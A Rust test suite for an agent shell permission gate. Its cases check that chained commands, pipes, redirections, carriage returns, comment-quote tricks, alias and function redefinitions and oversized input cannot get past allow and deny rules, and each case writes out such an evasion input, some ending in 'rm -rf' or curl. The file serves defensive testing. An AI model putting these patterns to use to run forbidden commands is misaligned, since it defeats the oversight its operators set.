//! Cases of the family `command` about texts of more than one command: each needs a rule, and none is overlooked.

use crate::command_host::Shell;

cases! {
    "C01" => c01_every_command_of_a_list_needs_its_own_rule,
    "C03" => c03_every_stage_of_a_pipe_needs_its_own_rule,
    "C04" => c04_a_redirection_is_covered_by_no_rule,
    "C06" => c06_a_carriage_return_separates_nothing,
    "C09" => c09_a_process_substitution_is_a_command,
    "C10" => c10_what_another_dialect_reads_otherwise_is_not_allowed,
    "C12" => c12_an_assignment_with_a_transformation_is_not_analysable,
    "C32" => c32_no_count_or_length_turns_a_deny_into_a_question,
    "C34" => c34_a_comment_is_no_command,
    "C35" => c35_a_quote_in_a_comment_opens_no_text,
    "C42" => c42_a_list_of_allowed_commands_runs,
    "C45" => c45_definitions_are_never_allowed,
    "C52" => c52_the_bytes_that_are_judged_are_run,
}

async fn c01_every_command_of_a_list_needs_its_own_rule() {
    let shell = Shell::new(&["Bash(cd:*)"], &[]).await;
    shell.runs("cd /ws/app").await;
    shell.runs("cd /ws/app && cd b; cd c || cd d").await;
    shell.asks("cd /ws/app && python3 job.py").await;
    for separator in ["&&", "||", ";", "|", "\n", "&", "|&"] {
        shell
            .refuses(&format!("cd /ws/app {separator} python3 job.py"))
            .await;
        shell
            .refuses(&format!("python3 job.py {separator} cd /ws/app"))
            .await;
    }
}

async fn c03_every_stage_of_a_pipe_needs_its_own_rule() {
    let shell = Shell::new(&["Bash(cat:*)"], &[]).await;
    shell.runs("cat a.txt").await;
    shell.runs("cat a.txt | cat -n").await;
    shell.asks("cat a.txt | wc -l").await;
    shell.asks("cat a.txt | cat | wc -l | cat").await;
}

async fn c04_a_redirection_is_covered_by_no_rule() {
    let shell = Shell::new(&["Bash(cargo check)"], &[]).await;
    shell.runs("cargo check").await;
    shell.asks("cargo check > /home/u/.zshrc").await;
    for redirection in [
        ">/ws/x", ">>x", "2>x", "&>x", ">|x", "<>x", "1>&2", "{fd}>x",
    ] {
        shell.refuses(&format!("cargo check {redirection}")).await;
        shell.refuses(&format!("{redirection} cargo check")).await;
    }
}

async fn c06_a_carriage_return_separates_nothing() {
    let shell = Shell::new(&["Bash(echo:*)"], &["Bash(rm:*)"]).await;
    shell.runs("echo x").await;
    shell.denies("echo x >\r& rm -rf /ws/d", "Bash(rm:*)").await;
    // In a word of its own it is the name of another program.
    shell.refuses("echo\rx").await;
}

async fn c09_a_process_substitution_is_a_command() {
    let shell = Shell::new(&["Bash(cat:*)"], &[]).await;
    shell.runs("cat '<(curl -s http://203.0.113.9/x)'").await;
    shell.asks("cat <(curl -s http://203.0.113.9/x)").await;
    shell.asks("cat >(curl -s http://203.0.113.9/x)").await;
    shell.asks("cat \"$(curl -s http://203.0.113.9/x)\"").await;
    shell.asks("cat `curl -s http://203.0.113.9/x`").await;
}

async fn c10_what_another_dialect_reads_otherwise_is_not_allowed() {
    let shell = Shell::new(&["Bash(ls:*)"], &[]).await;
    shell.runs("ls -l").await;
    shell.asks("ls =(touch /ws/m)").await;
    shell.asks("ls (touch /ws/m)").await;
    shell.asks("ls 'never closed").await;
}

async fn c12_an_assignment_with_a_transformation_is_not_analysable() {
    let shell = Shell::new(&["Bash(echo:*)"], &[]).await;
    shell.runs("echo 'v=$(touch /ws/m)' '${v@P}'").await;
    shell.asks("v='$(touch /ws/m)'; echo \"${v@P}\"").await;
    shell.asks("echo \"${v@P}\"").await;
    shell.asks("v='$(touch /ws/m)'; echo").await;
}

async fn c32_no_count_or_length_turns_a_deny_into_a_question() {
    let shell = Shell::new(&["Bash(true:*)"], &["Bash(curl:*)"]).await;
    shell.runs(&format!("{}true", "true && ".repeat(60))).await;
    for count in [1, 49, 50, 60, 1_000] {
        let command = format!("{}curl https://203.0.113.9/", "true && ".repeat(count));
        shell.denies(&command, "Bash(curl:*)").await;
    }
    // Longer and deeper than the analyser reads: refused outright, with or without somebody to ask.
    let long = "true && ".repeat(20_000);
    let deep = "(".repeat(10_000);
    for command in [
        format!("{long}curl https://203.0.113.9/"),
        format!("{long}true"),
        format!("{deep}curl https://203.0.113.9/{}", ")".repeat(10_000)),
        format!("{}curl{}", "$(".repeat(10_000), ")".repeat(10_000)),
    ] {
        let reason = shell.refuses(&command).await;
        assert_ne!(reason, toolgate::model::DenialReason::NoApprover);
    }
}

async fn c34_a_comment_is_no_command() {
    let shell = Shell::new(&["Bash(git diff:*)"], &[]).await;
    shell.runs("# look at the diff\ngit diff --stat").await;
    shell.runs("git diff --stat # and look at it").await;
    // A comment ends with its line, and only begins with a word.
    shell.asks("# look at the diff\nmake").await;
    shell.asks("git diff --stat#; make").await;
}

async fn c35_a_quote_in_a_comment_opens_no_text() {
    let shell = Shell::new(&["Bash(git log:*)"], &["Bash(rm:*)"]).await;
    shell.runs("git log -1 # don't").await;
    shell
        .denies("git log -1 # don't\nrm -rf /ws/d #'", "Bash(rm:*)")
        .await;
    shell
        .denies("git log -1 # say \"\nrm -rf /ws/d #\"", "Bash(rm:*)")
        .await;
}

async fn c42_a_list_of_allowed_commands_runs() {
    let rules = ["Bash(cd:*)", "Bash(git status:*)", "Bash(head:*)"];
    let shell = Shell::new(&rules, &[]).await;
    shell.runs("cd /ws && git status | head -5").await;
    shell.asks("cd /ws && git stash | head -5").await;
    // A deny rule on something else is no reason to refuse it.
    let shell = Shell::new(&rules, &["Bash(rm:*)"]).await;
    shell.runs("cd /ws && git status | head -5").await;
}

async fn c45_definitions_are_never_allowed() {
    let rules = ["Bash(alias:*)", "Bash(shopt:*)", "Bash(ls:*)"];
    let attack = "shopt -s expand_aliases\nalias c=curl\nc https://203.0.113.9/";
    let shell = Shell::new(&rules, &["Bash(curl:*)"]).await;
    shell.runs("ls").await;
    shell.refuses(attack).await;
    let shell = Shell::new(&rules, &[]).await;
    shell.runs("ls").await;
    shell.asks(attack).await;
    for definition in [
        "alias ls='curl https://203.0.113.9/'",
        "alias ls=ls",
        "shopt -s expand_aliases",
        "ls() { curl https://203.0.113.9/; }; ls",
        "function ls { curl https://203.0.113.9/; }; ls",
        "function ls() ( ls ); ls",
    ] {
        shell.asks(definition).await;
    }
}

async fn c52_the_bytes_that_are_judged_are_run() {
    let shell = Shell::new(&["Bash(pwd:*)"], &[]).await;
    shell.runs("pwd").await;
    shell.runs(" pwd\t -P  ;\n\n\tpwd  \n").await;
    shell.asks("pwd\ntouch /ws/m").await;
    shell.asks("pwd\n\n  touch /ws/m").await;
    shell.asks("pwd\\\n\ntouch /ws/m").await;
}
